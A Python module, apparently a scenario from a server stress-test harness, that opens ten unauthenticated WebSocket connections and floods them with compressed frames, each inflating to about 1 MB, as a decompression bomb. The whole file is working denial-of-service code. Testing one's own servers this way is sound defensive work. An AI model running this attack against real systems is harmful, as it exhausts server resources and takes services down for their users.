"""Ten sockets without token or hello send 10 MB of compressed messages of 1 MB each."""

from __future__ import annotations

import select
import time
import zlib
from contextlib import suppress

from ..target import Target, frame

SOCKETS = 10
BYTES = 10_000_000
MESSAGE = 1024 * 1024 - 1


def besiege(target: Target) -> dict[str, object]:
    packer = zlib.compressobj(9, wbits=-12)
    packed = (packer.compress(b" " * MESSAGE) + packer.flush(zlib.Z_SYNC_FLUSH)).removesuffix(b"\0\0\xff\xff")
    # A window of its own for each message: the first one's bytes are fit for every later one.
    bomb = frame(1, packed, rsv1=True)
    share = bomb * (BYTES // SOCKETS // len(bomb))
    sockets = [target.open_websocket(deflate=True) for _ in range(SOCKETS)]
    sent = 0
    for socket in sockets:
        socket.setblocking(False)
    rest = dict.fromkeys(sockets, share)
    deadline = target.deadline()
    while rest and time.monotonic() < deadline:
        _, ready, _ = select.select([], list(rest), [], 0.5)
        for socket in ready:
            try:
                count = socket.send(rest[socket][:65536])
            except BlockingIOError:
                continue
            except OSError:
                del rest[socket]
                continue
            sent += count
            rest[socket] = rest[socket][count:]
            if not rest[socket]:
                del rest[socket]
    time.sleep(max(0.0, deadline - time.monotonic()))
    for socket in sockets:
        with suppress(OSError):
            socket.close()
    return {"sent, MB": f"{sent / 1e6:.1f}", "would inflate to, MB": f"{sent / len(bomb) * MESSAGE / 1e6:.0f}"}
